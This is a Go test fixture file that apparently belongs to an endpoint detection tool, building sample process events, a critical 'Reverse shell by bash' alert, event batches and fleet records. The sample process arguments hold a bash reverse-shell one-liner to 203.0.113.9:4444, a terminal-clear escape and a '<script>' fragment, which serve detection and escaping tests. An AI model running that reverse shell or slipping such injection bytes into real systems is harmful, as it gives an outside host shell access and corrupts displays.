package apitest

import (
	"time"

	"github.com/hauberk/hauberk/event"
	"github.com/hauberk/hauberk/fleet"
)

// Epoch is when what the samples tell of happened.
var Epoch = time.Date(2026, 3, 14, 9, 26, 53, 589_000_000, time.UTC)

// Node is the node of the samples.
var Node = event.NodeID{0xa1, 0xb2, 0xc3, 0xd4, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}

// Shell is the process of the samples: a reverse shell below a web server,
// with a byte sequence in argv that would clear a terminal.
func Shell() *event.Process {
	return &event.Process{
		Pid: 4242, Start: 987654321000, Executable: []byte("/usr/bin/bash"), Name: []byte("bash"),
		Args: []byte("bash\x00-c\x00bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 \x1b[2J<script>\x00"), WorkingDirectory: []byte("/var/www"),
		Uid: 33, User: "www-data", ContainerId: "9f2c1a77de01", Sha256: "7d8f2f0b0d1f4e7fa0a6e1c9b1c6b3a3f5d3f2a1b0c9d8e7f6a5b4c3d2e1f001",
		Ancestors: []*event.Ancestor{
			{Pid: 4100, Start: 987600000000, Executable: []byte("/usr/bin/python3.13"), Name: []byte("gunicorn"), Args: []byte("gunicorn\x00--bind\x000.0.0.0:8000\x00shop.wsgi\x00"), Uid: 33, WorkingDirectory: []byte("/var/www")},
			{Pid: 900, Start: 5000000000, Executable: []byte("/usr/sbin/nginx"), Name: []byte("nginx"), Args: []byte("nginx: worker process\x00"), Uid: 33},
			{Pid: 1, Start: 20000000, Executable: []byte("/usr/lib/systemd/systemd"), Name: []byte("systemd"), Args: []byte("/sbin/init\x00"), Uid: 0},
		},
	}
}

// Alert is a reverse shell, seen on host web-1. id tells alerts apart; at is
// when it was last seen.
func Alert(id string, at time.Time) *event.Alert {
	body := &event.Event{Process: Shell(), Collector: event.Collector_COLLECTOR_EBPF, Body: &event.Event_Exec{Exec: &event.ProcessExec{}}}
	conn := &event.Event{Process: Shell(), Collector: event.Collector_COLLECTOR_EBPF, Body: &event.Event_Connection{Connection: &event.Connection{
		Direction: event.Direction_DIRECTION_OUTBOUND, Transport: event.Transport_TRANSPORT_TCP,
		SourceIp: []byte{10, 0, 0, 7}, SourcePort: 51234, DestinationIp: []byte{203, 0, 113, 9}, DestinationPort: 4444,
	}}}
	first := event.ID{Node: Node, Incarnation: 1, Sequence: 100}
	second := event.ID{Node: Node, Incarnation: 1, Sequence: 101}
	return &event.Alert{
		Id: id, Fingerprint: "f0" + id, RuleId: "b8a2c8a5-6f0e-4f3a-9a3e-000000000001", RuleName: "Reverse shell by bash", Severity: event.Severity_SEVERITY_CRITICAL,
		Techniques: []string{"T1059.004"}, TechniqueNames: []string{"Command and Scripting Interpreter: Unix Shell"}, Tactics: []string{"execution"},
		Description: "bash connects its standard streams to another machine, which then has a shell here.",
		Node:        Node.String(), Host: "web-1", Labels: map[string]string{"env": "prod", "role": "web"}, Count: 1,
		FirstSeen: at.UnixNano(), LastSeen: at.UnixNano(), Ruleset: "hauberk 1.0.0", Tenant: "default",
		Summary: "bash of www-data opened a shell to 203.0.113.9:4444", LastEvent: second.String(),
		FalsePositives: []string{"An administrator who tests the alert"}, References: []string{"https://attack.mitre.org/techniques/T1059/004/"},
		Evidence: []*event.Evidence{
			{Id: first.String(), Time: at.UnixNano(), Event: body}, {Id: second.String(), Time: at.Add(3 * time.Millisecond).UnixNano(), Event: conn},
		},
	}
}

// Batch is n execs of node Node at and after at, from sequence first on.
func Batch(first uint64, n int, at time.Time) *event.Batch {
	b := &event.Batch{
		Node: Node[:], Incarnation: 1, Tenant: "default", FirstSequence: first, BaseTime: at.UnixNano(), Schema: event.Schema,
		Host: &event.Host{Name: "web-1", Labels: map[string]string{"env": "prod"}},
	}
	commands := []string{"ls\x00-la\x00", "git\x00status\x00", "curl\x00-s\x00https://example.org/install.sh\x00", "make\x00-j4\x00", "cat\x00/etc/hostname\x00"}
	for i := range n {
		args := commands[i%len(commands)]
		name := args[:len(args)-1]
		for j := range name {
			if name[j] == 0 {
				name = name[:j]
				break
			}
		}
		b.Events = append(b.Events, &event.Event{
			ObservedDelta: int64(i) * int64(time.Millisecond), Collector: event.Collector_COLLECTOR_EBPF,
			Process: &event.Process{
				Pid: uint32(5000 + i), Start: uint64(i + 1), Executable: []byte("/usr/bin/" + name), Name: []byte(name), Args: []byte(args), Uid: 1000, User: "alice",
				Ancestors: []*event.Ancestor{{Pid: 4999, Start: 1, Executable: []byte("/usr/bin/bash"), Args: []byte("-bash\x00"), Uid: 1000}},
			},
			Body: &event.Event_Exec{Exec: &event.ProcessExec{}},
		})
	}
	return b
}

// Presence is node Node, online at the gateway of Control.
func Presence() *fleet.Presence {
	return &fleet.Presence{
		Node: Node[:], Tenant: "default", Host: "web-1", Kind: "agent", Labels: map[string]string{"env": "prod", "role": "web"},
		State: fleet.PresenceState_PRESENCE_STATE_ONLINE, Gateway: "gw-00000001", Since: Epoch.UnixNano(), Heard: Epoch.UnixNano(),
		Address: "10.0.0.7:40312", ConfigVersion: 3, ConfigHash: "5f1d", Os: "Debian GNU/Linux 13 (trixie)", Kernel: "6.12.48", Arch: "amd64",
		Incarnation: 4, Version: "0.1.0",
		Status: &event.NodeStatus{
			Mode: "run", Version: "0.1.0",
			Sensors: []*event.Sensor{
				{Name: "process", Method: "ebpf/tp_btf", State: event.SensorState_SENSOR_STATE_ACTIVE},
				{Name: "network", Method: "ebpf/raw_tp", State: event.SensorState_SENSOR_STATE_ACTIVE},
				{Name: "file", Method: "fanotify", State: event.SensorState_SENSOR_STATE_FAILED, Reason: "canary did not fire within 2 s"},
				{Name: "login", Method: "journald", State: event.SensorState_SENSOR_STATE_UNAVAILABLE, Reason: "no journal on this host"},
			},
			Counters: []*event.Counter{{Name: "hauberk_node_events_total", Value: 123456}, {Name: "hauberk_node_events_dropped_total", Label: "reason=ring_full", Value: 3}},
		},
	}
}

// Enrolment is that of node Node.
func Enrolment() *fleet.Enrolment {
	return &fleet.Enrolment{
		Node: Node[:], Tenant: "default", Kind: "agent", Host: "web-1", Labels: map[string]string{"env": "prod", "role": "web"},
		Enrolled: Epoch.UnixNano(), Token: "00112233aabbccdd",
	}
}
